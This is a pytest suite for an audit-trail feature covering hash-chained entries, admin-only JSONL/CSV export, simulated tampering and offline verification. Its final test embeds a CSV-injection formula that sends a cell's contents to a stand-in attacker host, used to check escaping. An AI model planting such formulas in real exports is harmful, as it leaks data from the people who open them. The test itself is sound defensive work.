"""Issue 27 §5: the audit trail. Privileged actions append hash-chained entries in their own
transaction; admin keys export them as JSON Lines or CSV; ``rhosynth audit verify`` finds an
entry edited or removed behind the app's back.

Over HTTP against the app in this process, on PostgreSQL and on SQLite, each on a database of its
own built by the migrations; the concurrency test runs against a real API server on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlalchemy import text

from app import cli
from app.audit import service as audit_service
from app.audit.schemas import AuditEntryOut
from app.auth.service import Principal, authenticate, create_key
from app.config import Settings
from app.datasets import service as dataset_service
from app.db.session import get_session_factory, transaction
from app.jobs import execution
from app.main import create_app
from app.reports import names as artefact_names
from rhosynth.audit import AuditChainBroken, entry_hash, verify_audit_chain
from rhosynth.models import AuditEntry
from tests.conftest import make_tenant
from tests.support import services
from tests.support.api import create_dataset, submit
from tests.support.ledger import add_tableless_dataset
from tests.support.stack import Stack

pytestmark = pytest.mark.usefixtures("_services")


@pytest.fixture(params=["postgresql", "sqlite"])
def settings(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Settings]:
    with services.migrated_settings(request.param, tmp_path, "audit") as settings:
        yield settings


@pytest.fixture
def client(settings: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(settings), raise_server_exceptions=False) as test_client:
        yield test_client


@dataclass
class Tenant:
    id: uuid.UUID
    name: str
    admin: str
    owner: str
    analyst: str
    owner_principal: Principal


def _cli_key(settings: Settings, tenant: str, role: str, name: str) -> str:
    with transaction(get_session_factory(settings.sqlalchemy_url)) as session:
        return create_key(session, settings.secret_key_bytes(), tenant, role, name).key


@pytest.fixture
def tenant(settings: Settings) -> Tenant:
    name = f"tenant-{uuid.uuid4().hex[:8]}"
    admin = _cli_key(settings, name, "admin", "root")
    owner = _cli_key(settings, name, "owner", "the owner")
    analyst = _cli_key(settings, name, "analyst", "the analyst")
    with transaction(get_session_factory(settings.sqlalchemy_url)) as session:
        principal = authenticate(session, settings.secret_key_bytes(), owner)
    assert principal is not None
    return Tenant(principal.tenant_id, name, admin, owner, analyst, principal)


def bearer(key: str, request_id: str | None = None) -> dict[str, str]:
    headers = {"Authorization": f"Bearer {key}"}
    if request_id is not None:
        headers["X-Request-ID"] = request_id
    return headers


def _export(client: TestClient, key: str, **params: Any) -> list[dict[str, Any]]:
    response = client.get("/v1/audit", params=params, headers=bearer(key))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/jsonl")
    return [json.loads(line) for line in response.text.splitlines()]


def _key_id(settings: Settings, key: str) -> uuid.UUID:
    with transaction(get_session_factory(settings.sqlalchemy_url)) as session:
        principal = authenticate(session, settings.secret_key_bytes(), key)
    assert principal is not None
    return principal.key_id


def _run_job(settings: Settings, job_id: str) -> None:
    factory = get_session_factory(settings.sqlalchemy_url)
    claim = execution.claim_and_charge(factory, settings, uuid.UUID(job_id))
    assert claim is not None
    assert execution._run_attempt(factory, settings, claim).status == "succeeded"


def test_actions_record_actor_object_and_request_id(
    client: TestClient,
    settings: Settings,
    tenant: Tenant,
    people_csv: bytes,
    people_schema: str,
) -> None:
    owner_id = f"key:{_key_id(settings, tenant.owner)}"
    analyst_id = f"key:{_key_id(settings, tenant.analyst)}"
    admin_id = f"key:{_key_id(settings, tenant.admin)}"

    created = client.post(
        "/v1/keys",
        json={"name": "portal", "role": "analyst"},
        headers=bearer(tenant.admin, "req-key-1"),
    )
    assert created.status_code == 201, created.text
    assert created.headers["X-Request-ID"] == "req-key-1"
    new_key = created.json()["id"]
    rotated = client.post(
        f"/v1/keys/{new_key}/rotate", json={"overlap_seconds": 0}, headers=bearer(tenant.admin)
    )
    assert rotated.status_code == 201
    expiry = client.patch(
        f"/v1/keys/{rotated.json()['id']}",
        json={"expires_at": "2099-01-01T00:00:00Z"},
        headers=bearer(tenant.admin),
    )
    assert expiry.status_code == 200
    revoked = client.post(f"/v1/keys/{rotated.json()['id']}/revoke", headers=bearer(tenant.admin))
    assert revoked.status_code == 200

    owner = httpx.Client(transport=client._transport, base_url=str(client.base_url))
    owner.headers.update(bearer(tenant.owner))
    analyst = httpx.Client(transport=client._transport, base_url=str(client.base_url))
    analyst.headers.update(bearer(tenant.analyst))
    dataset = create_dataset(owner, people_csv, people_schema, budget_rho="2", name="people")
    grant = owner.post(f"/v1/datasets/{dataset['id']}/budget", json={"add_rho": "0.5"})
    assert grant.status_code == 200, grant.text
    # A generated id when the client sends none, or one that is not a plain token.
    generated = grant.headers["X-Request-ID"]
    assert len(generated) == 32
    job = submit(analyst, dataset["id"], rho="0.5", headers={"X-Request-ID": "bad id!"})
    assert job.status_code == 202, job.text
    job_request = job.headers["X-Request-ID"]
    assert job_request != "bad id!" and len(job_request) == 32
    _run_job(settings, job.json()["id"])
    assert analyst.get(f"/v1/jobs/{job.json()['id']}/output").status_code == 200
    assert analyst.get(f"/v1/jobs/{job.json()['id']}/report").status_code == 200
    queued = submit(analyst, dataset["id"], rho="0.25").json()["id"]
    assert analyst.post(f"/v1/jobs/{queued}/cancel").status_code == 202
    # Reads are not audited; a refused action records nothing.
    assert analyst.get(f"/v1/datasets/{dataset['id']}").status_code == 200
    assert submit(analyst, dataset["id"], rho="99").status_code != 202
    assert owner.delete(f"/v1/datasets/{dataset['id']}").status_code == 200

    entries = _export(client, tenant.admin)
    old_key = client.get(f"/v1/keys/{new_key}", headers=bearer(tenant.admin)).json()
    retires_at = entries[4]["details"]["retires_at"]
    assert datetime.fromisoformat(retires_at) == datetime.fromisoformat(old_key["retires_at"])
    seen = [
        (e["actor"], e["action"], e["object_type"], e["object_id"], e["details"]) for e in entries
    ]
    assert seen == [
        ("cli", "key.create", "key", str(_key_id(settings, tenant.admin)), _cli_details("admin")),
        ("cli", "key.create", "key", owner_id[4:], _cli_details("owner", "the owner")),
        ("cli", "key.create", "key", analyst_id[4:], _cli_details("analyst", "the analyst")),
        (
            admin_id,
            "key.create",
            "key",
            new_key,
            {"name": "portal", "role": "analyst", "expires_at": None, "datasets": []},
        ),
        (
            admin_id,
            "key.rotate",
            "key",
            new_key,
            {"successor_id": rotated.json()["id"], "retires_at": retires_at},
        ),
        (
            admin_id,
            "key.expiry",
            "key",
            rotated.json()["id"],
            {"expires_at": "2099-01-01T00:00:00.000000+00:00"},
        ),
        (admin_id, "key.revoke", "key", rotated.json()["id"], {}),
        (
            owner_id,
            "dataset.create",
            "dataset",
            dataset["id"],
            {
                "name": "people",
                "budget_rho": "2",
                "budget_delta": "0",
                "discovery_rho": None,
                "unit_max_rows": None,
            },
        ),
        (
            owner_id,
            "budget.grant",
            "dataset",
            dataset["id"],
            {"add_rho": "0.5", "add_delta": "0"},
        ),
        (
            analyst_id,
            "job.submit",
            "job",
            job.json()["id"],
            {
                "dataset_id": dataset["id"],
                "method": "independent",
                "rho": "0.5",
                "epsilon": None,
                "delta": None,
                "rows": None,
            },
        ),
        (
            analyst_id,
            "job.download",
            "job",
            job.json()["id"],
            {"dataset_id": dataset["id"], "artefact": "output"},
        ),
        (
            analyst_id,
            "job.download",
            "job",
            job.json()["id"],
            {"dataset_id": dataset["id"], "artefact": artefact_names.RELEASE_JSON},
        ),
        (
            analyst_id,
            "job.submit",
            "job",
            queued,
            {
                "dataset_id": dataset["id"],
                "method": "independent",
                "rho": "0.25",
                "epsilon": None,
                "delta": None,
                "rows": None,
            },
        ),
        (analyst_id, "job.cancel", "job", queued, {"dataset_id": dataset["id"]}),
        (owner_id, "dataset.delete", "dataset", dataset["id"], {"name": "people"}),
    ]
    names = {e["actor"]: e["actor_name"] for e in entries}
    assert names == {
        "cli": None,
        admin_id: "root",
        owner_id: "the owner",
        analyst_id: "the analyst",
    }
    by_action = {(e["action"], e["object_id"]): e["request_id"] for e in entries}
    assert by_action["key.create", new_key] == "req-key-1"
    assert by_action["budget.grant", dataset["id"]] == generated
    assert by_action["job.submit", job.json()["id"]] == job_request
    assert by_action["key.create", owner_id[4:]] is None  # the CLI has no request
    assert [e["seq"] for e in entries] == list(range(1, len(entries) + 1))
    assert {e["tenant_id"] for e in entries} == {str(tenant.id)}
    # Privacy rule 6: no row count of the table (people.csv has 400 rows) in any entry.
    assert all(value not in (400, "400") for e in entries for value in e["details"].values())
    head = verify_audit_chain(entries)[str(tenant.id)]
    assert (head.entries, head.last_hash) == (len(entries), entries[-1]["hash"])
    assert [AuditEntry.model_validate(e).seq for e in entries] == [e["seq"] for e in entries]


def _cli_details(role: str, name: str = "root") -> dict[str, Any]:
    return {"name": name, "role": role, "expires_at": None, "datasets": []}


def test_a_rolled_back_action_leaves_no_entry(
    client: TestClient, settings: Settings, tenant: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    with transaction(get_session_factory(settings.sqlalchemy_url)) as session:
        dataset = add_tableless_dataset(session, tenant.owner_principal, Decimal(1))
    before = _export(client, tenant.admin)

    def fail(*_args: object) -> None:
        raise RuntimeError("the request fails after the grant and its entry were flushed")

    # account_of runs in the grant's transaction after the service recorded its entry.
    monkeypatch.setattr(dataset_service, "account_of", fail)
    response = client.post(
        f"/v1/datasets/{dataset}/budget", json={"add_rho": "0.5"}, headers=bearer(tenant.owner)
    )
    assert response.status_code == 500
    monkeypatch.undo()
    assert _export(client, tenant.admin) == before
    shown = client.get(f"/v1/datasets/{dataset}", headers=bearer(tenant.owner)).json()
    assert shown["budget"]["total_rho"] == "1"
    # The next action chains onto the last committed entry.
    granted = client.post(
        f"/v1/datasets/{dataset}/budget", json={"add_rho": "0.5"}, headers=bearer(tenant.owner)
    )
    assert granted.status_code == 200
    after = _export(client, tenant.admin)
    assert after[:-1] == before and after[-1]["prev_hash"] == before[-1]["hash"]
    verify_audit_chain(after)


def test_only_admin_keys_export_the_trail(
    client: TestClient, settings: Settings, tenant: Tenant
) -> None:
    for key in (tenant.owner, tenant.analyst):
        response = client.get("/v1/audit", headers=bearer(key))
        assert response.status_code == 403
        assert response.json() == {"detail": "this action needs an admin key"}
    assert client.get("/v1/audit").status_code == 401
    # Another tenant's admin sees its own entries only.
    other = _cli_key(settings, f"other-{uuid.uuid4().hex[:8]}", "admin", "theirs")
    theirs = _export(client, other)
    assert [(e["action"], e["actor_name"]) for e in theirs] == [("key.create", None)]
    assert str(tenant.id) not in json.dumps(theirs)


def test_jsonl_and_csv_exports_page_and_filter(
    client: TestClient, settings: Settings, tenant: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    for index in range(7):
        response = client.post(
            "/v1/keys",
            json={"name": f'k{index}, "quoted"', "role": "owner"},
            headers=bearer(tenant.admin),
        )
        assert response.status_code == 201
    # Pages of 2 entries, each read in a transaction of its own.
    monkeypatch.setattr(audit_service, "EXPORT_PAGE", 2)
    entries = _export(client, tenant.admin)
    assert [e["seq"] for e in entries] == list(range(1, 11))
    assert set(entries[0]) == set(AuditEntryOut.model_fields)

    response = client.get("/v1/audit", params={"format": "csv"}, headers=bearer(tenant.admin))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(entries)
    for row, entry in zip(rows, entries, strict=True):
        assert json.loads(row["details"]) == entry["details"]
        assert row["seq"] == str(entry["seq"]) and row["hash"] == entry["hash"]
        assert row["request_id"] == (entry["request_id"] or "")

    assert [e["seq"] for e in _export(client, tenant.admin, limit=3)] == [1, 2, 3]
    since = entries[5]["at"]
    until = entries[8]["at"]
    window = _export(client, tenant.admin, since=since, until=until)
    assert [e["seq"] for e in window] == [e["seq"] for e in entries if since <= e["at"] < until]
    assert window[0]["seq"] <= 6
    # An export from `since` verifies from its first entry on.
    verify_audit_chain(window, from_start=False)
    with pytest.raises(AuditChainBroken):
        verify_audit_chain(window[1:])
    bad = client.get("/v1/audit", params={"since": "2026-01-01"}, headers=bearer(tenant.admin))
    assert bad.status_code == 422  # a naive instant is refused


def _verify(monkeypatch: pytest.MonkeyPatch, settings: Settings, *args: str) -> Any:
    monkeypatch.setattr(cli, "_settings", lambda: settings)
    return CliRunner().invoke(cli.main, ["audit", "verify", *args])


def _tamper(settings: Settings, statement: str, **params: Any) -> None:
    """Run ``statement`` on audit_entries around its append-only triggers (as someone with the
    database's owner rights could); first check that the triggers refuse it."""
    factory = get_session_factory(settings.sqlalchemy_url)
    postgres = settings.sqlalchemy_url.startswith("postgresql")
    with pytest.raises(Exception, match="append-only"), transaction(factory) as session:
        session.execute(text(statement), params)
    with transaction(factory) as session:
        if postgres:
            session.execute(text("ALTER TABLE audit_entries DISABLE TRIGGER USER"))
        else:
            session.execute(text("DROP TRIGGER audit_entries_no_update"))
            session.execute(text("DROP TRIGGER audit_entries_no_delete"))
        session.execute(text(statement), params)
        if postgres:
            session.execute(text("ALTER TABLE audit_entries ENABLE TRIGGER USER"))


@pytest.mark.parametrize("change", ["edit", "edit-and-rehash", "delete"])
def test_verify_finds_an_entry_changed_behind_the_apps_back(
    client: TestClient,
    settings: Settings,
    tenant: Tenant,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    change: str,
) -> None:
    for index in range(3):
        created = client.post(
            "/v1/keys", json={"name": f"k{index}", "role": "analyst"}, headers=bearer(tenant.admin)
        )
        assert created.status_code == 201
    result = _verify(monkeypatch, settings)
    assert result.exit_code == 0, result.output
    assert f"tenant {tenant.id}: 6 entries verified" in result.output
    by_name = _verify(monkeypatch, settings, "--tenant", tenant.name)
    assert by_name.exit_code == 0 and "6 entries verified" in by_name.output
    export = tmp_path / "export.jsonl"
    export.write_bytes(client.get("/v1/audit", headers=bearer(tenant.admin)).content)
    assert _verify(monkeypatch, settings, "--file", str(export)).exit_code == 0

    where = "tenant_id = :tenant AND seq = 5"
    tenant_param = tenant.id.hex if settings.sqlalchemy_url.startswith("sqlite") else tenant.id
    if change == "edit":
        statement = f"UPDATE audit_entries SET actor_name = 'someone else' WHERE {where}"
        reason = "hash does not match"
        broken = 5
    elif change == "edit-and-rehash":
        # A forger who edits an entry and computes its hash again breaks the next link.
        fifth = _export(client, tenant.admin)[4]
        forged = entry_hash(fifth["prev_hash"], {**fifth, "actor_name": "someone else"})
        statement = (
            f"UPDATE audit_entries SET actor_name = 'someone else', hash = '{forged}' WHERE {where}"
        )
        reason = "prev_hash is not the previous entry's hash"
        broken = 6
    else:
        statement = f"DELETE FROM audit_entries WHERE {where}"
        reason = "seq 6 where 5 was expected"
        broken = 6
    _tamper(settings, statement, tenant=tenant_param)
    result = _verify(monkeypatch, settings, "--tenant", str(tenant.id))
    assert result.exit_code == 1
    assert f"seq {broken}" in result.stderr and reason in result.stderr, result.stderr

    # The export as it now stands fails offline too; the earlier export still verifies.
    tampered = tmp_path / "tampered.jsonl"
    tampered.write_bytes(client.get("/v1/audit", headers=bearer(tenant.admin)).content)
    offline = _verify(monkeypatch, settings, "--file", str(tampered))
    assert offline.exit_code == 1 and reason in offline.stderr
    assert _verify(monkeypatch, settings, "--file", str(export)).exit_code == 0


def test_an_edited_export_line_is_found_offline(
    client: TestClient,
    tenant: Tenant,
    monkeypatch: pytest.MonkeyPatch,
    settings: Settings,
    tmp_path: Path,
) -> None:
    lines = client.get("/v1/audit", headers=bearer(tenant.admin)).text.splitlines()
    entry = json.loads(lines[1])
    entry["details"]["role"] = "analyst"  # the owner key recorded as an analyst key
    lines[1] = json.dumps(entry)
    export = tmp_path / "edited.jsonl"
    export.write_text("\n".join(lines) + "\n")
    result = _verify(monkeypatch, settings, "--file", str(export))
    assert result.exit_code == 1
    assert "entry 2" in result.stderr and "hash does not match" in result.stderr


def test_the_client_reads_and_verifies_the_export(client: TestClient, tenant: Tenant) -> None:
    from rhosynth.client import Client

    remote = Client(str(client.base_url), tenant.admin, transport=client._transport)
    entries = list(remote.audit())
    assert [e.action for e in entries] == ["key.create"] * 3
    assert entries[0].actor == "cli"
    heads = verify_audit_chain(remote.audit_lines())
    assert heads[str(tenant.id)].last_hash == entries[-1].hash
    assert [e.seq for e in remote.audit(limit=2)] == [1, 2]
    # The client's model mirrors the server's, field for field.
    assert set(AuditEntry.model_fields) == set(AuditEntryOut.model_fields)


def test_concurrent_actions_make_one_unbroken_chain(api_stack: Stack) -> None:
    """30 actions from 4 keys released together by a barrier: every entry chains onto a
    different previous entry (the chain's lock), and the chain verifies."""
    tenant = make_tenant(api_stack)
    admins = [api_stack.client(api_stack.create_key(tenant.name, "admin")) for _ in range(2)]
    owners = [api_stack.client(api_stack.create_key(tenant.name, "owner")) for _ in range(2)]
    with api_stack.session() as session:
        principal = authenticate(
            session,
            api_stack.settings.secret_key_bytes(),
            api_stack.create_key(tenant.name, "owner", "grants"),
        )
        assert principal is not None
        datasets = [add_tableless_dataset(session, principal, Decimal(1)) for _ in owners]
    calls: list[tuple[httpx.Client, str, str, dict[str, Any]]] = []
    for index in range(20):
        body = {"name": f"burst-{index}", "role": "analyst"}
        calls.append((admins[index % 2], "POST", "/v1/keys", body))
    for index in range(10):
        owner, dataset = owners[index % 2], datasets[index % 2]
        calls.append((owner, "POST", f"/v1/datasets/{dataset}/budget", {"add_rho": "0.01"}))
    barrier = threading.Barrier(len(calls))
    statuses: list[int] = []

    def act(call: tuple[httpx.Client, str, str, dict[str, Any]]) -> None:
        http, method, path, body = call
        barrier.wait()
        statuses.append(http.request(method, path, json=body).status_code)

    threads = [threading.Thread(target=act, args=(call,)) for call in calls]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(statuses) == [200] * 10 + [201] * 20
    response = admins[0].get("/v1/audit")
    assert response.status_code == 200
    entries = [json.loads(line) for line in response.text.splitlines()]
    burst = [e for e in entries if e["request_id"] is not None]
    assert len(burst) == 30
    assert len({e["prev_hash"] for e in entries}) == len(entries)
    assert [e["seq"] for e in entries] == list(range(1, len(entries) + 1))
    verify_audit_chain(entries)
    for http in (*admins, *owners):
        http.close()
    tenant.close()


def test_samples_and_measurement_downloads_are_recorded(
    client: TestClient,
    settings: Settings,
    tenant: Tenant,
    people_csv: bytes,
    people_schema: str,
) -> None:
    from app.samples.execution import execute_sample

    owner = httpx.Client(transport=client._transport, base_url=str(client.base_url))
    owner.headers.update(bearer(tenant.owner))
    dataset = create_dataset(owner, people_csv, people_schema, budget_rho="1")
    job = submit(owner, dataset["id"], rho="0.5").json()["id"]
    _run_job(settings, job)
    assert owner.get(f"/v1/jobs/{job}/measurements", params={"format": "parquet"}).is_success
    sample = owner.post(f"/v1/jobs/{job}/samples", json={"rows": 50, "seed": 3})
    assert sample.status_code == 202, sample.text
    sample_id = sample.json()["id"]
    assert execute_sample(settings, uuid.UUID(sample_id)) == "succeeded"
    assert owner.get(f"/v1/samples/{sample_id}/output").status_code == 200
    assert owner.delete(f"/v1/samples/{sample_id}").status_code == 204
    entries = _export(client, tenant.admin)[5:]
    assert [(e["action"], e["object_id"], e["details"]) for e in entries] == [
        (
            "job.download",
            job,
            {"dataset_id": dataset["id"], "artefact": artefact_names.MEASUREMENTS_PARQUET},
        ),
        ("sample.create", sample_id, {"job_id": job, "rows": 50, "seed_given": True}),
        ("sample.download", sample_id, {"job_id": job}),
        ("sample.delete", sample_id, {}),
    ]
    verify_audit_chain(_export(client, tenant.admin))


def test_the_migration_downgrades_and_upgrades(settings: Settings, tenant: Tenant) -> None:
    from alembic import command
    from alembic.config import Config

    import migrations
    from app.db.session import dispose_engines

    config = Config()
    config.set_main_option("script_location", str(Path(migrations.__file__).parent))
    config.attributes["database_url"] = settings.sqlalchemy_url
    factory = get_session_factory(settings.sqlalchemy_url)
    command.downgrade(config, "0011_key_management")
    dispose_engines()
    with pytest.raises(Exception, match=r"(?i)audit_entries"), transaction(factory) as session:
        session.execute(text("SELECT count(*) FROM audit_entries"))
    command.upgrade(config, "head")
    dispose_engines()
    # Empty again, append-only again, and the next key starts a new chain at seq 1.
    _cli_key(settings, tenant.name, "analyst", "after")
    with transaction(factory) as session:
        rows = session.execute(text("SELECT seq, prev_hash FROM audit_entries")).all()
    assert [(row.seq, row.prev_hash) for row in rows] == [(1, "0" * 64)]
    with pytest.raises(Exception, match="append-only"), transaction(factory) as session:
        session.execute(text("DELETE FROM audit_entries"))


def test_the_csv_export_escapes_cells_a_spreadsheet_would_run(
    client: TestClient, tenant: Tenant
) -> None:
    """Key names are the tenant's words and request ids the client's: a cell starting with
    = + - @ is prefixed with ' (OWASP CSV injection), as in the synthetic table's CSV."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    created = client.post(
        "/v1/keys", json={"name": formula, "role": "admin"}, headers=bearer(tenant.admin)
    )
    assert created.status_code == 201, created.text
    acted = client.post(
        "/v1/keys",
        json={"name": "@SUM(1+1)", "role": "analyst"},
        headers=bearer(created.json()["key"], request_id="-2-3"),
    )
    assert acted.status_code == 201, acted.text
    response = client.get("/v1/audit", params={"format": "csv"}, headers=bearer(tenant.admin))
    assert response.status_code == 200
    last = list(csv.DictReader(io.StringIO(response.text)))[-1]
    assert last["actor_name"] == "'" + formula
    assert last["request_id"] == "'-2-3"
    assert json.loads(last["details"])["name"] == "@SUM(1+1)"  # inside JSON: starts with {
    # The JSON Lines export, which the chain is verified on, keeps the values as they are.
    entries = _export(client, tenant.admin)
    assert entries[-1]["actor_name"] == formula and entries[-1]["request_id"] == "-2-3"
    verify_audit_chain(entries)
